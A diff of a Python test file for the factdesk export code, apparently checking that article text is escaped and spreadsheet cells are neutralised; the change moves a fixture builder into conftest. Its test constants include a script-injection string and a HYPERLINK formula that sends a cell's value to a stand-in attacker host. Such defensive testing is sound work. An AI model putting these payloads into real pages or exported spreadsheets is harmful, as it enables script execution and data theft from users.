@@ -6,6 +6,7 @@ import csv
 import io
 import json
 import re
+from collections.abc import Callable
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -22,47 +23,19 @@ from factdesk.core.export import (
     neutralise_cell,
 )
 from factdesk.core.facts import new_fact
-from factdesk.core.model import ArticleSet, Derivation, Document, Group, Link, Passage
+from factdesk.core.model import ArticleSet, Derivation, Link
 
 SCRIPT = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 REPO = Path(__file__).resolve().parents[2]
 
-
-def build(docs: dict[str, list[str]], rows: list[list[tuple[str, int]]]) -> ArticleSet:
-    result = ArticleSet()
-    for doc_id, sentences in docs.items():
-        text = ""
-        for i, sentence in enumerate(sentences):
-            start = len(text)
-            text += sentence + " "
-            result.passages.append(
-                Passage(
-                    id=f"{doc_id}.s{i}",
-                    doc=doc_id,
-                    index=i,
-                    paragraph=0,
-                    start=start,
-                    end=start + len(sentence),
-                )
-            )
-        result.documents.append(
-            Document(
-                id=doc_id,
-                path=f"/news/{doc_id}.txt",
-                name=f"{doc_id}.txt",
-                text=text,
-                title=f"Story {doc_id}",
-            )
-        )
-    for g, row in enumerate(rows):
-        result.groups.append(Group(id=f"g{g}", passages=[f"{d}.s{i}" for d, i in row]))
-    return result
+# Call signature of the article-set builder fixture in conftest.py.
+BuildSet = Callable[..., ArticleSet]
 
 
 @pytest.fixture()
-def article_set() -> ArticleSet:
-    result = build(
+def article_set(build_set: BuildSet) -> ArticleSet:
+    result = build_set(
         {
             "d0": [
                 f"US strikes killed 16 militiamen {SCRIPT} on Thursday.",
@@ -76,6 +49,8 @@ def article_set() -> ArticleSet:
         },
         [[("d0", 0), ("d1", 0)], [("d0", 1), ("d1", 1)], [("d1", 2)]],
     )
+    for doc in result.documents:
+        doc.path, doc.title = f"/news/{doc.id}.txt", f"Story {doc.id}"
     result.links = [Link(a="d0.s0", b="d1.s0", score=0.8123, relation="same")]
     result.derivation = [Derivation(source="d0", derived="d1", share=0.7, score=0.9)]
     doc = result.documents[0]
